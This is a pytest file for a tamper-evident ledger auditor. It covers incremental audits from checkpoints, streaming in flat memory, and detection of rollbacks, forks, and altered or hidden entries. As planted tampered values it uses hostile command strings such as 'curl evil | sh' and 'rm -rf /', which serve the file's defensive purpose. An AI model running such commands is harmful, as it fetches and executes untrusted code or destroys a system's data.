"""Audits at scale (issue 13, item 2): incremental by default, streaming in flat memory, a CVM's
entries proven in batches; and none of it loses a finding.

An incremental audit goes on from the checkpoint the last clean audit kept; it must still
report a rollback or a fork, a rule broken across the checkpoint, an altered or hidden new
entry; and fetch nothing but the new entries. The checkpoint's rules state must continue the
replay exactly as one pass would.
"""

from __future__ import annotations

import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from ledger_fakes import CVM, OTHER_CVM, OWNER, EntryLedger, FakeSource, in_service, lawful
from synthetic_ledger import SyntheticLedger, SyntheticSource

from duet.client import audit as audit_module
from duet.client.audit import Auditor, AuditResult, HeadStore
from duet.client.audit_checkpoint import CheckpointStore, decode_replay, encode_replay
from duet.protocol import lifecycle as lc
from duet.protocol.rules import RulesReplay


def findings(result: AuditResult) -> list[tuple[str, int | None]]:
    return [(f.code, f.seq) for f in result.findings]


def checkpoint_size(home: Path, controller: str) -> int | None:
    path = CheckpointStore(home).path(controller)
    return json.loads(path.read_text())["head"]["tree_size"] if path.exists() else None


# --- incremental ---------------------------------------------------------------------------------


def test_an_incremental_audit_fetches_only_the_new_entries(tmp_path: Path) -> None:
    ledger = SyntheticLedger(5000, cvms=10)
    source = SyntheticSource(ledger)
    first = Auditor(source, HeadStore(tmp_path)).audit()
    assert first.ok and first.checked == 5000 and first.resumed is None and first.start == 0
    assert not source.requests["/v1/ledger/proof/inclusion"]  # the root is recomputed, no proof per entry

    ledger.grow(300)
    source.requests.clear()
    source.ranges.clear()
    result = Auditor(source, HeadStore(tmp_path)).audit()  # a new run: the checkpoint is read from disk

    assert result.ok, result.findings
    assert result.resumed is not None and result.resumed.tree_size == 5000 and result.start == 5000
    assert result.checked == 300 and [e["seq"] for e in result.entries] == list(range(5000, 5300))
    assert source.ranges == [(5000, 5300, None)]  # the new entries, and nothing else
    assert dict(source.requests) == {"/v1/ledger/head": 1, "/v1/ledger/proof/consistency": 1, "/v1/ledger/entries": 1}
    assert checkpoint_size(tmp_path, first.controller) == 5300


def test_from_start_checks_every_entry_again(tmp_path: Path) -> None:
    ledger = SyntheticLedger(2500, cvms=3)
    source = SyntheticSource(ledger)
    assert Auditor(source, HeadStore(tmp_path)).audit().ok
    source.ranges.clear()
    result = Auditor(source, HeadStore(tmp_path), from_start=True).audit()
    assert result.ok and result.resumed is None and result.checked == 2500
    assert [r[:2] for r in source.ranges] == [(0, 2500), (1000, 2500), (2000, 2500)]


def test_a_rule_broken_across_the_checkpoint_is_found_and_found_again(tmp_path: Path) -> None:
    ledger = in_service()  # the CVM is in service at the checkpoint
    source = FakeSource(ledger)
    assert Auditor(source, HeadStore(tmp_path)).audit().ok
    started = ledger.run()  # a command in service: forbidden only given what came before the checkpoint

    result = Auditor(source, HeadStore(tmp_path)).audit()
    assert result.resumed is not None and result.start == started["seq"]
    assert findings(result) == [("command_outside_update", started["seq"])]
    again = Auditor(source, HeadStore(tmp_path)).audit()  # the checkpoint did not move past a finding
    assert findings(again) == [("command_outside_update", started["seq"])]
    assert findings(Auditor(source, HeadStore(tmp_path), from_start=True).audit()) == findings(result)


def test_a_wrong_link_across_the_checkpoint_is_found(tmp_path: Path) -> None:
    ledger = lawful()
    ledger.provision(OTHER_CVM)
    ledger.ready(OTHER_CVM)
    source = FakeSource(ledger)
    assert Auditor(source, HeadStore(tmp_path)).audit().ok
    ready = next(e for e in ledger.entries if e["cvm"] == OTHER_CVM and e["event"] == lc.CVM_READY)
    provisioned = ready["seq"] - 1
    ledger.add(OTHER_CVM, lc.COMMAND_STARTED, OWNER, command="true")
    ledger.entries[-1]["cvm_prev"] = provisioned  # links past the ready entry: that one was "hidden"
    ledger.tree = EntryLedger(ledger.entries).tree
    result = Auditor(source, HeadStore(tmp_path)).audit()
    assert result.resumed is not None
    assert findings(result) == [("entry_missing", provisioned)]


def test_an_altered_new_entry_is_named_and_the_checkpoint_stays(tmp_path: Path) -> None:
    ledger = SyntheticLedger(3000, cvms=5)
    source = SyntheticSource(ledger)
    controller = Auditor(source, HeadStore(tmp_path)).audit().controller
    ledger.grow(2000)
    ledger.altered[4321] = {**ledger.entry(4321), "command": "curl evil | sh"}
    result = Auditor(source, HeadStore(tmp_path)).audit()
    assert findings(result) == [("entry_altered", 4321)] and result.bad_seqs == {4321}
    assert checkpoint_size(tmp_path, controller) == 3000


@pytest.mark.parametrize("forget_last_head", [False, True], ids=["last-head-kept", "last-head-forgotten"])
def test_an_incremental_audit_still_reports_a_rollback_and_a_fork(tmp_path: Path, forget_last_head: bool) -> None:
    """The checkpoint's head is a head this auditor verified: even with the last head seen
    forgotten, a controller showing less, or another history, is caught against it."""
    ledger = in_service()
    ledger.mark(lc.IN_SERVICE, lc.IN_UPDATE)
    ledger.run()
    ledger.mark(lc.IN_UPDATE, lc.IN_SERVICE)
    store = HeadStore(tmp_path)
    source = FakeSource(ledger)
    controller = Auditor(source, store).audit().controller
    assert checkpoint_size(tmp_path, controller) == ledger.size

    def audit_of(other: EntryLedger) -> AuditResult:
        if forget_last_head:
            (store.directory / f"{controller}.json").unlink(missing_ok=True)
        return Auditor(FakeSource(other), store).audit()

    assert [code for code, _ in findings(audit_of(ledger.prefix(ledger.size - 2)))] == ["ledger_shrank"]
    forked = ledger.prefix(ledger.size - 1)
    forked.mark(lc.IN_UPDATE, lc.IN_SERVICE, final=True)  # same size, another last entry
    assert [code for code, _ in findings(audit_of(forked))] == ["fork"]
    forked.run()
    assert [code for code, _ in findings(audit_of(forked))] == ["inconsistent_head"]
    assert checkpoint_size(tmp_path, controller) == ledger.size  # none of them was adopted


def test_a_damaged_or_foreign_checkpoint_costs_a_full_audit_not_a_verdict(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ledger = SyntheticLedger(1500, cvms=3)
    source = SyntheticSource(ledger)
    controller = Auditor(source, HeadStore(tmp_path)).audit().controller
    path = CheckpointStore(tmp_path).path(controller)
    kept = json.loads(path.read_text())

    damaged = {**kept, "frontier": [("00" * 32)] * len(kept["frontier"])}
    path.write_text(json.dumps(damaged))
    result = Auditor(source, HeadStore(tmp_path)).audit()
    assert result.ok and result.resumed is None and result.checked == 1500
    assert "does not hash to its head's root" in result.notes[0]

    path.write_text("{not json")
    result = Auditor(source, HeadStore(tmp_path)).audit()
    assert result.ok and result.resumed is None and "cannot be read" in result.notes[0]

    monkeypatch.setattr(audit_module, "fingerprint", lambda *args: "f" * 64)  # another version of the rules
    result = Auditor(source, HeadStore(tmp_path)).audit()
    assert result.ok and result.resumed is None and "another version of the rules" in result.notes[0]


def test_no_checkpoint_is_kept_after_a_finding(tmp_path: Path) -> None:
    ledger = in_service()
    ledger.run()  # forbidden
    result = Auditor(FakeSource(ledger), HeadStore(tmp_path)).audit()
    assert not result.ok
    assert checkpoint_size(tmp_path, result.controller) is None


def test_follow_rounds_move_the_checkpoint_on(tmp_path: Path) -> None:
    ledger = SyntheticLedger(1200, cvms=4)
    source = SyntheticSource(ledger)
    auditor = Auditor(source, HeadStore(tmp_path))
    controller = auditor.audit().controller
    ledger.grow(50)
    result = auditor.follow()
    assert result.ok and result.checked == 50 and result.start == 1200
    assert checkpoint_size(tmp_path, controller) == 1250
    assert auditor.follow().checked == 0


def test_the_rules_state_kept_continues_the_replay_exactly() -> None:
    """Cut a ledger anywhere, keep the replay's state as JSON, go on from it: the same
    violations and the same state as replaying in one pass."""
    ledger = lawful()
    lawful(ledger, OTHER_CVM)
    ledger.run(OTHER_CVM)  # after the stop: forbidden
    ledger.mark(lc.IN_SERVICE, lc.IN_UPDATE, OTHER_CVM)
    ledger.owners(OWNER, "f" * 64)
    ledger.policy({"cvm.mark.in-update": 2})
    pid = ledger.propose("cvm.mark.in-update", OTHER_CVM)
    ledger.approve(pid, OTHER_CVM, actor="f" * 64)
    ledger.executed(pid, "cvm.mark.in-update", OTHER_CVM, approvers=[OWNER, "f" * 64])
    ledger.mark(lc.IN_SERVICE, lc.IN_UPDATE, OTHER_CVM)  # one owner's signature, no proposal: quorum_not_met
    entries = ledger.entries
    whole = RulesReplay()
    found = [v for entry in entries for v in whole.apply(entry)]
    assert whole.lifecycle.violations and whole.proposals.violations  # the owner set changed without approvals
    for cut in range(len(entries) + 1):
        first = RulesReplay()
        earlier = [v for entry in entries[:cut] for v in first.apply(entry)]
        kept = json.loads(json.dumps(encode_replay(first)))
        resumed = decode_replay(kept)
        later = [v for entry in entries[cut:] for v in resumed.apply(entry)]
        assert earlier + later == found, cut
        life, whole_life = resumed.lifecycle, whole.lifecycle
        assert (life.cvms, life.jobs, life.owners) == (whole_life.cvms, whole_life.jobs, whole_life.owners)
        assert (resumed.proposals.owners, resumed.proposals.policy) == (whole.proposals.owners, whole.proposals.policy)
        assert (resumed.proposals.proposals, resumed.proposals.votes) == (whole.proposals.proposals, whole.proposals.votes)
        assert encode_replay(resumed).keys() == encode_replay(whole).keys()


# --- streaming ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_whole_ledger_audit_streams_in_flat_memory(tmp_path: Path) -> None:
    """200,000 entries (the ledger made on demand; only its tree, built before, is kept by the
    source). A whole-list audit would hold every entry (about 1.3 KB each as Python objects:
    some 260 MB) and its leaf hash; the streaming one holds a frontier, at most 2048 block
    hashes, a page or two of entries, the last 1000 for the timeline and the rules' state per
    CVM. The 50 MB bound only says "nothing per entry is kept"; owner requests are runs of 100
    commands here, as `duet cvm run` sends them (the rules keep every request digest a CVM
    accepted: see bench/audit_scale.py for one request per command)."""
    ledger = SyntheticLedger(200_000, cvms=100, commands_per_request=100)
    source = SyntheticSource(ledger)
    tracemalloc.start()
    try:
        result = Auditor(source, HeadStore(tmp_path)).audit()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.ok and result.checked == 200_000 and len(result.entries) == 1000
    assert peak < 50 * 2**20, f"peak {peak / 2**20:.1f} MiB"
    assert dict(source.requests) == {"/v1/ledger/head": 1, "/v1/ledger/entries": 200}


def test_the_timeline_keeps_the_last_entries_and_progress_is_reported(tmp_path: Path) -> None:
    ledger = SyntheticLedger(3500, cvms=2)
    progress: list[tuple[int, int]] = []
    auditor = Auditor(SyntheticSource(ledger), HeadStore(tmp_path), timeline=10, progress=lambda d, t: progress.append((d, t)))
    result = auditor.audit()
    assert result.ok and result.checked == 3500
    assert [e["seq"] for e in result.entries] == list(range(3490, 3500)) and len(result.to_json()["timeline"]) == 10
    assert progress == [(1000, 3500), (2000, 3500), (3000, 3500), (3500, 3500)]


def test_altered_and_hidden_entries_in_a_stream_are_named(tmp_path: Path) -> None:
    ledger = SyntheticLedger(30_000, cvms=10)
    ledger.altered[12_345] = {**ledger.entry(12_345), "exit_status": 0, "command": "rm -rf /"}
    ledger.altered[29_999] = {**ledger.entry(29_999), "duration_ms": 1.0}
    source = SyntheticSource(ledger)
    result = Auditor(source, HeadStore(tmp_path / "a")).audit()
    assert findings(result) == [("entry_altered", 12_345), ("entry_altered", 29_999)]
    assert source.requests["/v1/ledger/proof/consistency"] < 80  # a search, not a proof per entry
    ledger.altered.clear()
    ledger.hidden.add(777)
    assert findings(Auditor(SyntheticSource(ledger), HeadStore(tmp_path / "b")).audit()) == [("entry_missing", 777)]


# --- one CVM --------------------------------------------------------------------------------------


@pytest.mark.parametrize("cvms", [1, 300], ids=["dense", "sparse"])
def test_a_cvm_audit_proves_its_entries_in_batches_where_they_are_dense(tmp_path: Path, cvms: int) -> None:
    ledger = SyntheticLedger(12_000, cvms=cvms)
    source = SyntheticSource(ledger)
    cvm = ledger.cvms[0]
    result = Auditor(source, HeadStore(tmp_path), cvm=cvm, timeline=None).audit()
    shown = [seq for seq in range(ledger.size) if ledger.entry(seq)["cvm"] == cvm]
    assert result.ok, result.findings
    assert [e["seq"] for e in result.entries] == shown
    proofs = source.requests["/v1/ledger/proof/inclusion"] + source.requests["/v1/ledger/proof/consistency"]
    if cvms == 1:  # 11,999 entries: the ledger streamed, one consistency proof per 5 pages
        assert proofs <= 4 + 1 and source.requests["/v1/ledger/entries"] <= 2 * 12 + 2 + 1  # + the controller's own
    else:  # 40 entries spread over 12,000: one inclusion proof each is cheaper than 12 pages
        assert source.requests["/v1/ledger/proof/inclusion"] == len(shown) + 1  # and the owner set's entry


@pytest.mark.parametrize("page_cost", [0.0, 1e9], ids=["streamed", "proven-one-by-one"])
@pytest.mark.parametrize("attack", ["altered", "hidden", "none"])
def test_both_ways_of_proving_a_cvm_find_the_same(tmp_path: Path, page_cost: float, attack: str) -> None:
    ledger = SyntheticLedger(6000, cvms=3)
    cvm = ledger.cvms[1]
    seqs = list(ledger.cvm_seqs(cvm, 0, ledger.size))
    victim = seqs[len(seqs) // 2]
    if attack == "altered":
        ledger.altered[victim] = {**ledger.entry(victim), "command": "echo pwned"}
    elif attack == "hidden":
        ledger.hidden.add(victim)
    auditor = Auditor(SyntheticSource(ledger), HeadStore(tmp_path), cvm=cvm, timeline=None)
    auditor.page_cost = page_cost
    result = auditor.audit()
    expected = {"altered": [("entry_altered", victim)], "hidden": [("entry_missing", victim)], "none": []}[attack]
    assert findings(result) == expected
    assert [e["seq"] for e in result.entries] == [s for s in seqs if attack != "hidden" or s != victim]


def test_a_cvm_audit_is_not_incremental_and_keeps_no_checkpoint(tmp_path: Path) -> None:
    ledger = in_service()
    source = FakeSource(ledger)
    assert Auditor(source, HeadStore(tmp_path), cvm=CVM).audit().ok
    assert checkpoint_size(tmp_path, source.pin().controller) is None
    again = Auditor(source, HeadStore(tmp_path), cvm=CVM).audit()
    assert again.resumed is None and again.checked == ledger.size - 1


class ViewTampering(SyntheticSource):
    """Serves the ledger honestly, except one CVM's own view of it (``?cvm=``)."""

    def __init__(self, ledger: SyntheticLedger, attack: str, victim: int) -> None:
        super().__init__(ledger)
        self.attack, self.victim = attack, victim

    def get(self, path: str, **query: Any) -> Any:
        answer = super().get(path, **query)
        if path == "/v1/ledger/entries" and query.get("cvm"):
            entries = answer["entries"]
            if self.attack == "hidden":
                entries[:] = [e for e in entries if e["seq"] != self.victim]
            for entry in entries:
                if entry["seq"] == self.victim and self.attack == "altered":
                    entry["command"] = "echo harmless"
        return answer


@pytest.mark.parametrize("page_cost", [0.0, 1e9], ids=["streamed", "proven-one-by-one"])
@pytest.mark.parametrize("attack", ["altered", "hidden"])
def test_a_cvm_view_that_differs_from_the_ledger_is_reported(tmp_path: Path, page_cost: float, attack: str) -> None:
    ledger = SyntheticLedger(4000, cvms=2)
    cvm = ledger.cvms[0]
    victim = list(ledger.cvm_seqs(cvm, 0, ledger.size))[100]
    auditor = Auditor(ViewTampering(ledger, attack, victim), HeadStore(tmp_path), cvm=cvm)
    auditor.page_cost = page_cost
    result = auditor.audit()
    assert findings(result) == [("entry_altered" if attack == "altered" else "entry_missing", victim)]
